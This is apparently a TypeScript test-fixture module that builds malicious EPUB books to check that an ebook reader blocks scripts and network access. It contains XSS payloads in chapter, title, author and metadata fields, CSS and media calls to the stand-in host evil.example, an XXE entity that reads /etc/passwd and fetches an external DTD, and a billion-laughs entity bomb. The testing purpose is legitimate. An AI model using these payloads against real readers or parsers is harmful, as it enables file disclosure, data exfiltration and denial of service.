import { buildEpub, type EpubChapter, type EpubSpec, epubParts } from './epub.ts'
import { buildZip } from './zip.ts'

/** Everything a book must not do: run scripts, load from elsewhere, navigate its reader, send forms. `evil.example` resolves nowhere. */
const active: EpubChapter = {
  file: 'evil.xhtml',
  title: 'Nothing happens',
  body: `    <h1>Nothing happens</h1>
    <script>window.PWNED = 1; parent.PWNED = 1; fetch('https://evil.example/script')</script>
    <p onclick="window.PWNED = 2" onmouseover="window.PWNED = 3">The text of this chapter is harmless.</p>
    <img src="missing.png" onerror="window.PWNED = 4; parent.PWNED = 4" alt=""/>
    <img src="https://evil.example/pixel.png" alt="" srcset="https://evil.example/pixel2.png 2x"/>
    <svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="parent.PWNED = 5"><script>parent.PWNED = 6</script><use href="https://evil.example/x.svg#a"/></svg>
    <iframe src="https://evil.example/frame" title="frame"></iframe>
    <object data="https://evil.example/object"></object>
    <video src="https://evil.example/video.mp4" autoplay="autoplay"></video>
    <form action="https://evil.example/form" method="post"><button>Send</button></form>
    <p style="background: url(https://evil.example/style.png)"><a href="javascript:parent.PWNED=7">A link that does nothing</a></p>
    <link rel="stylesheet" href="https://evil.example/style.css"/>
    <p>The chapter ends as quietly as it began.</p>`,
}

export const evilSentence = 'The text of this chapter is harmless.'

/** A well-formed EPUB whose chapter, style sheet and SVG try to run code and to reach the network. Reading it must do neither. */
export function evilEpub(): Uint8Array<ArrayBuffer> {
  return buildEpub({
    title: 'Nothing <script>parent.PWNED = 8</script> happens',
    authors: ['<img src=x onerror="parent.PWNED = 9">'],
    language: 'en',
    identifier: 'urn:uuid:0e0e0e0e-0000-4000-8000-000000000001',
    metadata:
      '    <dc:description>&lt;img src=x onerror="parent.PWNED = 10"&gt;Plain words.&lt;script&gt;parent.PWNED = 11&lt;/script&gt;</dc:description>\n',
    css: "@import url('https://evil.example/import.css'); @font-face { font-family: x; src: url(https://evil.example/font.woff2) } body { background: url(https://evil.example/body.png) }",
    chapters: [active],
    resources: [{ file: 'evil.js', mediaType: 'text/javascript', data: 'parent.PWNED = 12' }],
  })
}

const plain: EpubSpec = {
  title: 'Plain',
  language: 'en',
  identifier: 'urn:x:plain',
  chapters: [{ file: 'a.xhtml', title: 'A', body: '<p>Plain words in a plain book.</p>' }],
}

/** A small sound EPUB, to be spoiled. */
export function plainEpub(changes: Partial<EpubSpec> = {}): Uint8Array<ArrayBuffer> {
  return buildEpub({ ...plain, ...changes })
}

/** The same with parts left out, changed or put in front. */
export function plainEpubWith(
  changes: Readonly<Record<string, string | Uint8Array | undefined>>,
): Uint8Array<ArrayBuffer> {
  const parts = epubParts(plain).flatMap((part) => {
    if (!(part.name in changes)) return [part]
    const data = changes[part.name]
    return data === undefined ? [] : [{ ...part, data }]
  })
  const known = new Set(parts.map(({ name }) => name))
  const added = Object.entries(changes).flatMap(([name, data]) =>
    data !== undefined && !known.has(name) ? [{ name, data }] : [],
  )
  return buildZip([...parts, ...added])
}

/** A package document that reads a file of the machine and a host of the network into its title. */
export function xxeEpub(): Uint8Array<ArrayBuffer> {
  const opf = epubParts(plain).find(({ name }) => name.endsWith('.opf'))
  const doctype =
    '<!DOCTYPE package [<!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY net SYSTEM "http://evil.example/xxe"><!ENTITY % all SYSTEM "http://evil.example/all.dtd"> %all;]>'
  const data = String(opf?.data)
    .replace('<package', `${doctype}\n<package`)
    .replace('<dc:title>Plain', '<dc:title>Plain&file;&net;')
  return plainEpubWith({ 'EPUB/package.opf': data })
}

/** Ten names that stand for ten of each other: a billion words in a kilobyte. */
export function entityBombEpub(): Uint8Array<ArrayBuffer> {
  const levels = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')
  const chapter = `<?xml version="1.0"?><!DOCTYPE html [<!ENTITY l0 "ha">${levels}]><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><p>Laugh: &l9;</p></body></html>`
  return plainEpubWith({ 'EPUB/a.xhtml': chapter })
}
